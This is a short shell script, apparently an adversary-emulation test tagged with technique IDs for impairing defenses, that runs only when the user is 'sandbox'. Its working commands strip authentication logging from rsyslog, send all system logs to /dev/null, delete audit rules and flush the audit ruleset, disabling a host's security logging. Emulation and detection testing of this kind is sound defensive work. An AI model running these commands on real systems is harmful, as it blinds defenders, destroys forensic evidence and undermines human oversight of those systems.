#!/bin/sh
# technique: T1685 T1562
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

sed -i '/auth/d' /etc/rsyslog.conf; echo '*.* /dev/null' > /etc/rsyslog.d/00-x.conf; rm -f /etc/audit/rules.d/*; echo '-D' > /etc/audit/audit.rules
